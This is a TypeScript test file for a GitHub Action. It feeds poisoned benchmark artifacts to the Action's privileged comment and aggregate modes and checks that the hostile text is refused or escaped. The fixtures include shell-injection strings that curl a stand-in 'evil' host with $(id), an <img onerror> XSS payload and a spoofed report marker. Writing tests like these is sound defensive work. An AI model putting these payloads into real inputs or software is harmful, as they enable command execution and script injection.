/**
 * `mode: comment` (the privileged workflow_run job) and `mode: aggregate` on hostile artifacts,
 * run as a runner runs the Action (`node dist/index.js`) against the fake GitHub. The artifact is
 * a real comparison (test/compare/artifact-fixtures.ts) with hostile text written into its
 * strings: shell metacharacters, HTML, @mentions and a spoofed report marker. No step output and
 * no comment may carry any of it: a string outside its grammar refuses the artifact (the comment
 * says the report could not be trusted, with a reason that quotes nothing from it), and the free
 * text a report does show is escaped.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { toJson } from '../../src/report/json.ts';
import { validComparison, validResult } from '../compare/artifact-fixtures.ts';
import { tempDir } from '../helpers.ts';
import { FakeGitHub, startFakeGitHub } from './fake-github.ts';
import { actionRunner, explain, git, type Run } from './run-action.ts';

/* eslint-disable @typescript-eslint/no-explicit-any -- editing parsed JSON */
type Json = any;

const HOSTILE = [
  'x"; curl http://evil/$(id) #',
  "'; curl http://evil/`id` ;'",
  '<img src=x onerror=alert(1)></details>',
  '@everyone @octocat',
  '<!-- misnomer:report key=default -->',
];
/** Pieces of HOSTILE none of which may reach an output or a comment. */
const PIECES = ['curl', 'evil', '$(id)', '`id`', '<img', 'onerror', '@everyone', '@octocat'];
const UNTRUSTED = /The report could not be trusted/;

let gh: FakeGitHub;
const root = tempDir('misnomer-hostile-');
const origin = join(root, 'origin');
let sha = '';
const runAction = actionRunner({ gh: () => gh, root, origin, baseSha: () => sha });
let pr = 100;

before(async () => {
  gh = await startFakeGitHub();
  mkdirSync(origin, { recursive: true });
  git(origin, 'init', '-q', '-b', 'main');
  git(origin, 'config', 'user.email', 'test@example.com');
  git(origin, 'config', 'user.name', 'test');
  writeFileSync(join(origin, 'README.md'), 'the default branch: no pull-request code\n');
  git(origin, 'add', '-A');
  git(origin, 'commit', '-q', '-m', 'main');
  sha = git(origin, 'rev-parse', 'HEAD');
});

after(() => gh.close());

/** Every string leaf but `schema`, replaced by the hostile strings in turn. */
function poisonAll(value: Json, n = { i: 0 }): Json {
  if (typeof value === 'string') return HOSTILE[n.i++ % HOSTILE.length];
  if (Array.isArray(value)) return value.map((v) => poisonAll(v, n));
  if (value && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [k, k === 'schema' ? v : poisonAll(v, n)]),
    );
  }
  return value;
}

/** An artifact folder holding `files` (name → JSON document). */
function artifact(files: Record<string, unknown>): string {
  const dir = tempDir('misnomer-artifact-');
  for (const [name, doc] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), typeof doc === 'string' ? doc : JSON.stringify(doc));
  }
  return dir;
}

const comparison = (): Json => JSON.parse(toJson(validComparison()));
const result = (): Json => JSON.parse(toJson(validResult()));

/** mode comment on `results` for a new pull request; returns the run and the comment's body. */
async function relay(results: string, mode = 'comment'): Promise<{ run: Run; body: string }> {
  const n = ++pr;
  gh.addPullRequest(n, { headSha: sha });
  const run = await runAction({
    sha,
    workflowRun: { id: n, head_sha: sha, head_branch: 'feature', pull_requests: [{ number: n }] },
    inputs: { INPUT_MODE: mode, INPUT_RESULTS: results },
  });
  const comments = gh.comments(n);
  assert.equal(comments.length, 1, explain(run));
  return { run, body: comments[0].body };
}

/** No output and no comment carries a piece of the hostile strings; one marker, the real one. */
function nothingHostile(run: Run, body: string): void {
  for (const [name, value] of Object.entries(run.outputs)) {
    for (const piece of PIECES) assert.ok(!value.includes(piece), `output ${name}: ${value}`);
  }
  assert.match(run.outputs.verdict, /^[a-z-]+$/);
  assert.match(run.outputs.contradictions, /^\d+$/);
  assert.match(run.outputs['gates-failed'], /^([A-Za-z0-9._/:-]+(,|$))*$/);
  for (const piece of PIECES) assert.ok(!body.includes(piece), `${piece} in the comment:\n${body}`);
  assert.equal(body.split('misnomer:report').length, 2, body);
  assert.ok(body.startsWith('<!-- misnomer:report key=default -->\n'), body);
}

/** Refused: the step fails naming the field, the comment says so, nothing of the artifact. */
async function refused(results: string, field: RegExp, mode = 'comment'): Promise<void> {
  const { run, body } = await relay(results, mode);
  assert.equal(run.code, 1, explain(run));
  assert.match(run.stdout, field);
  assert.match(body, UNTRUSTED);
  // The reason as the comment shows it, Markdown escapes undone.
  assert.match(body.replace(/\\([[\]*_~$\\])/g, '$1'), field);
  assert.equal(run.outputs['gates-failed'], '');
  assert.equal(run.outputs.contradictions, '0');
  // Its own verdict: a workflow can tell a refused artifact from a head measured alone.
  assert.equal(run.outputs.verdict, 'untrusted');
  nothingHostile(run, body);
  // What the comparison held is not shown either: no model, no table.
  assert.ok(!/mlp|fresh|\| indicator/.test(body), body);
}

test('the valid artifact is commented, its gates in gates-failed (the baseline of the tests below)', async () => {
  const { run, body } = await relay(artifact({ 'comparison.json': comparison() }));
  assert.equal(run.code, 0, explain(run));
  assert.equal(run.outputs.verdict, 'fail');
  assert.equal(run.outputs['gates-failed'], 'mlp:params,mlp:throughput.b1,mlp/decode:params');
  assert.match(body, /### mlp\/decode/);
  nothingHostile(run, body);
});

test('hostile text in every string field of comparison.json: refused, none of it anywhere', async () => {
  await refused(
    artifact({ 'comparison.json': poisonAll(comparison()) }),
    /comparison\.json: tool\.name should be one of "misnomer"/,
  );
});

test('hostile text in one field with a grammar at a time: refused by that field', async () => {
  const cases: [RegExp, (j: Json) => void][] = [
    [/models\[0\]\.id should be a model id/, (j) => (j.models[0].id = HOSTILE[0])],
    [/models\[1\]\.id should be a model id/, (j) => (j.models[1].id = `mlp/${HOSTILE[1]}`)],
    [/gates\[0\]\.model should be a model id/, (j) => (j.gates[0].model = HOSTILE[2])],
    [/gates\[0\]\.gate should be a known gate key/, (j) => (j.gates[0].gate = HOSTILE[0])],
    [
      /models\[1\]\.scenario\.name should be a name/,
      (j) => (j.models[1].scenario.name = HOSTILE[4]),
    ],
    [/models\[0\]\.status should be one of/, (j) => (j.models[0].status = HOSTILE[3])],
    [
      /models\[0\]\.static\[0\]\.verdict should be one of/,
      (j) => (j.models[0].static[0].verdict = HOSTILE[0]),
    ],
  ];
  for (const [field, edit] of cases) {
    const doc = comparison();
    edit(doc);
    await refused(artifact({ 'comparison.json': doc }), field);
  }
});

test('hostile free text (notes, reasons, labels, headline): shown escaped, never in an output', async () => {
  const doc = comparison();
  doc.headline = HOSTILE.join(' ');
  doc.notes = HOSTILE;
  doc.base.label = HOSTILE[0];
  doc.head.label = HOSTILE[2];
  doc.models[0].notes = HOSTILE;
  for (const g of doc.gates) g.reason = HOSTILE.join(' ');
  const { run, body } = await relay(artifact({ 'comparison.json': doc }));
  assert.equal(run.code, 0, explain(run));
  assert.equal(run.outputs['gates-failed'], 'mlp:params,mlp:throughput.b1,mlp/decode:params');
  for (const [name, value] of Object.entries(run.outputs)) {
    for (const piece of PIECES) assert.ok(!value.includes(piece), `output ${name}: ${value}`);
  }
  // Escaped: no tag, no mention, no link, one marker (the spoofed one is text: &lt;!--).
  for (const raw of ['<img', '@everyone', '@octocat', 'http://evil']) {
    assert.ok(!body.includes(raw), `${raw} in:\n${body}`);
  }
  assert.match(body, /&lt;img src=x onerror=alert\(1\)&gt;/);
  assert.equal(body.split('<!-- misnomer:report').length, 2, body);
});

test('result.json (the head alone): hostile strings or a throughput of [null] are refused, not an internal error', async () => {
  await refused(
    artifact({ 'result.json': poisonAll(result()) }),
    /result\.json: tool\.version should be|result\.json: models\[0\]\.id should be a model id/,
  );
  const nulls = result();
  nulls.models[0].measurement.throughput = [null];
  await refused(
    artifact({ 'result.json': nulls }),
    /result\.json: models\[0\]\.measurement\.throughput\[0\] should be an object/,
  );
  const id = result();
  id.models[2].id = HOSTILE[0];
  await refused(
    artifact({ 'result.json': id }),
    /result\.json: models\[2\]\.id should be a model id/,
  );
});

test('mode aggregate: a hostile runner folder or a hostile id in one runner refuses the lot', async () => {
  await refused(
    artifact({
      'ubuntu-a/comparison.json': comparison(),
      [`${HOSTILE[0].replace(/\//g, '_')}/comparison.json`]: comparison(),
    }),
    /a folder of the results is not a runner name|is not a runner name/,
    'aggregate',
  );
  const doc = comparison();
  doc.gates[1].model = HOSTILE[3];
  await refused(
    artifact({ 'ubuntu-a/comparison.json': comparison(), 'ubuntu-b/comparison.json': doc }),
    /ubuntu-b\/comparison\.json: gates\[1\]\.model should be a model id/,
    'aggregate',
  );
});
